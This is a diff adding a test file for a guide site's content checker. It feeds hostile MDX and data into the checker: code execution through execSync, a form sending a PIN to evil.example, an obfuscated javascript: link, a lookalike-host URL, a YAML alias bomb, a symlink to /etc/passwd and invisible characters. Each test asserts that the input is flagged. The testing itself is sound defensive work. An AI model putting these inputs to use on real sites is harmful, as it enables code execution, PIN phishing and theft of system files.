@@ -1,0 +1,116 @@
+/**
+ * The content is data: on the fixture site, input a careless or hostile editor could send
+ * in a pull request is a problem at its file, line and column, never a crash. (The MDX
+ * rules, one by one, are in tests/unit/guide-compile.test.ts; the build with such input
+ * in build.test.ts.)
+ */
+import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { afterAll, describe, expect, it } from 'vitest';
+import { runSourceChecks } from '../../src/lib/checks/index.ts';
+import { fixture, located, removeFixtures, today } from './helpers.ts';
+
+afterAll(removeFixtures);
+
+const check = async (root: string) => (await runSourceChecks(root, { now: today, translations: false })).problems;
+const page = (root: string) => join(root, 'src/content/guides/nb/bankid.mdx');
+const append = (root: string, text: string) => writeFileSync(page(root), `${readFileSync(page(root), 'utf8')}\n${text}\n`);
+
+describe('pages: every breach of the profile at its place, with the fix', () => {
+  it('reports code, a spread, a form and a foreign image in one page, each at its line', async () => {
+    const root = fixture();
+    append(
+      root,
+      [
+        "import { execSync } from 'node:child_process'",
+        '',
+        "{execSync('touch /tmp/guide-pwned')}",
+        '',
+        '<Callout {...{ title: "x" }}>Hei</Callout>',
+        '',
+        '<form action="https://evil.example/"><input name="pin" /></form>',
+        '',
+        '![Logo](https://evil.example/logo.png)',
+      ].join('\n'),
+    );
+    const problems = await check(root);
+    expect(located(problems)).toEqual([
+      'src/content/guides/nb/bankid.mdx:23:1  mdx/esm',
+      'src/content/guides/nb/bankid.mdx:25:1  mdx/expression',
+      'src/content/guides/nb/bankid.mdx:27:10  mdx/spread',
+      'src/content/guides/nb/bankid.mdx:29:1  html/form',
+      'src/content/guides/nb/bankid.mdx:31:9  image/external',
+    ]);
+    expect(problems[0]?.message).toBe('import is not allowed in a page: the components are there without importing, and a page holds no code');
+  });
+
+  it('reads an address the way a browser does before judging it', async () => {
+    const root = fixture();
+    append(root, '[a](/bankid/%E0%A4%A) [b](&#x6A;avascript:alert(1)) [c](https://www.bankid.no@evil.example/)');
+    expect(located(await check(root))).toEqual([
+      'src/content/guides/nb/bankid.mdx:23:5  link/malformed',
+      'src/content/guides/nb/bankid.mdx:23:27  html/javascript-url',
+      'src/content/guides/nb/bankid.mdx:23:57  link/host',
+    ]);
+  });
+
+  it('finds a zero-width space that is the whole alt text', async () => {
+    const root = fixture();
+    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace("<Screenshot src=\"velg\"", '<Screenshot src="velg" alt="\u200b"'));
+    expect(located(await check(root))).toEqual(['src/content/guides/nb/bankid.mdx:16:33  text/invisible']);
+  });
+
+  it('names a level written as text at its line', async () => {
+    const root = fixture();
+    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace('<Steps>', '<Steps level="3">'));
+    const problems = await check(root);
+    expect(located(problems)).toEqual(['src/content/guides/nb/bankid.mdx:12:15  mdx/prop-value']);
+    expect(problems[0]?.message).toContain('level must be the number 2 or 3, written level={3}, not "3"');
+  });
+});
+
+describe('data and files: anything unreadable is a problem at its file', () => {
+  it('refuses YAML aliases, which can expand without end, in frontmatter and screenshot files', async () => {
+    const root = fixture();
+    writeFileSync(page(root), readFileSync(page(root), 'utf8').replace('owner: IT-brukerstøtte', 'owner: IT-brukerstøtte\na: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b, *b, *b, *b, *b]'));
+    const yaml = join(root, 'src/content/screenshots/velg.yaml');
+    writeFileSync(yaml, `${readFileSync(yaml, 'utf8')}x: &x [1, 2]\ny: [*x, *x]\n`);
+    const problems = await check(root);
+    expect(located(problems)).toContain('src/content/guides/nb/bankid.mdx:9:8  page/frontmatter');
+    expect(located(problems)).toContain('src/content/screenshots/velg.yaml:19:5  screenshot/invalid-data');
+    expect(problems.find((p) => p.rule === 'page/frontmatter')?.message).toBe('the frontmatter uses a YAML alias (*a): write the value out instead');
+  });
+
+  it('names an empty PNG and a truncated one', async () => {
+    const root = fixture();
+    const png = join(root, 'public/screenshots/velg.png');
+    const bytes = readFileSync(png);
+    writeFileSync(png, '');
+    mkdirSync(join(root, 'public/screenshots/en'), { recursive: true });
+    writeFileSync(join(root, 'public/screenshots/en/velg.png'), bytes.subarray(0, Math.floor(bytes.length / 2)));
+    const problems = (await check(root)).filter((p) => p.rule === 'screenshot/unreadable');
+    expect(located(problems).sort()).toEqual(['public/screenshots/en/velg.png:1:1  screenshot/unreadable', 'public/screenshots/velg.png:1:1  screenshot/unreadable']);
+    expect(problems[0]?.message).toContain('export the screenshot again as PNG');
+  });
+
+  it('refuses symbolic links, hidden files and invisible characters in names, in src/content and public', async () => {
+    const root = fixture();
+    symlinkSync('/etc/passwd', join(root, 'public/passord.txt'));
+    symlinkSync(join(root, 'src/content/guides/nb/index.mdx'), join(root, 'src/content/guides/nb/lenke.mdx'));
+    writeFileSync(join(root, 'src/content/guides/nb/.utkast.mdx'), '---\ntitle: x\n---\n');
+    writeFileSync(join(root, 'public/skjerm\u200b.png'), '');
+    expect(located(await check(root)).sort()).toEqual([
+      'public/passord.txt:1:1  file/symlink',
+      'public/skjerm\u200b.png:1:1  text/invisible',
+      'src/content/guides/nb/.utkast.mdx:1:1  file/hidden',
+      'src/content/guides/nb/lenke.mdx:1:1  file/symlink',
+    ]);
+  });
+
+  it('refuses an invisible character in a screenshot\'s alt text', async () => {
+    const root = fixture();
+    const yaml = join(root, 'src/content/screenshots/velg.yaml');
+    writeFileSync(yaml, readFileSync(yaml, 'utf8').replace(/(\n {2}nb: )(.*)/, '$1"\u2067$2"'));
+    expect(located(await check(root))).toEqual(['src/content/screenshots/velg.yaml:2:7  text/invisible']);
+  });
+});
